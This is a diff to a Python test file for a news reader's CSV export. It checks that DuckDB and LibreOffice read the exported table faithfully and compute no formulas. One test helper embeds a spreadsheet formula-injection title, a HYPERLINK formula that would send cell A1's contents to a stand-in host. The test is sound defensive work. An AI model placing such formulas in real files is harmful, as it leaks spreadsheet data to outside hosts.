@@ -3,18 +3,23 @@
 import csv
 import io
 from dataclasses import replace
+from pathlib import Path
 
+import duckdb
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
 from tests.export.articles import ferry
+from tests.export.libreoffice import LIBREOFFICE, opened
 from tests.export.noted import noted_ferry
 from tests.export.strategies import annotated_articles
 from tui_reader.export import find_export
 from tui_reader.export.spreadsheet import defused
 from tui_reader.export.writers.csv import COLUMNS, to_csv
 from tui_reader.model import AnnotatedArticle
+
+FIGURES = {"strength", "confidence", "statements", "words", "share"}
 
 
 def rows_of(table: str) -> list[dict[str, str]]:
@@ -77,3 +82,41 @@ def test_no_cell_is_a_formula_and_none_breaks_its_row(annotated: AnnotatedArticl
     table = list(csv.reader(io.StringIO(to_csv(replace(annotated, article=article)), newline="")))
     assert all(len(row) == len(COLUMNS) for row in table)
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) or "\n" in cell for row in table for cell in row)
+
+
+def harmful_table(folder: Path) -> Path:
+    """The little article as a file, under a title that is a formula, with commas, quotation marks and letters of many scripts."""
+    one = noted_ferry()
+    title = '=HYPERLINK("https://x.example?"&A1; "Fähre, “渡船”")'
+    export = find_export("csv")
+    path = folder / "ferry.csv"
+    path.write_bytes((export.head + export.write(replace(one, article=replace(one.article, title=title)))).encode())
+    return path
+
+
+def test_a_program_that_is_told_nothing_of_the_table_reads_it(tmp_path: Path) -> None:
+    """Separators, quotation marks, the encoding and the names of the columns are found by DuckDB, and every cell is as written."""
+    path = harmful_table(tmp_path)
+    found = duckdb.read_csv(str(path), all_varchar=True)
+    assert tuple(found.columns) == COLUMNS
+    written = rows_of(path.read_bytes().decode("utf-8-sig"))
+    assert [tuple(cell or "" for cell in row) for row in found.fetchall()] == [tuple(row.values()) for row in written]
+
+
+@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed")
+def test_libreoffice_opens_the_table(tmp_path: Path) -> None:
+    """Each cell stands in its row and column as written, figures and days can be reckoned with, and nothing is computed."""
+    path = harmful_table(tmp_path)
+    head, *rows = opened(path, tmp_path / "office")
+    assert tuple(cell.value for cell in head) == COLUMNS
+    assert not any(cell.formula for row in rows for cell in row)
+    for shown, written in zip(rows, rows_of(path.read_bytes().decode("utf-8-sig")), strict=True):
+        cells = dict(zip(COLUMNS, shown, strict=False))
+        for name in COLUMNS:
+            cell = cells.get(name)
+            kind, value = (cell.kind, cell.value) if cell else ("empty", "")
+            if name in FIGURES and written[name]:
+                assert (kind, float(value)) == ("float", float(written[name]))
+            else:
+                assert value == written[name]
+                assert kind == (("date" if name == "published" else "string") if value else "empty")
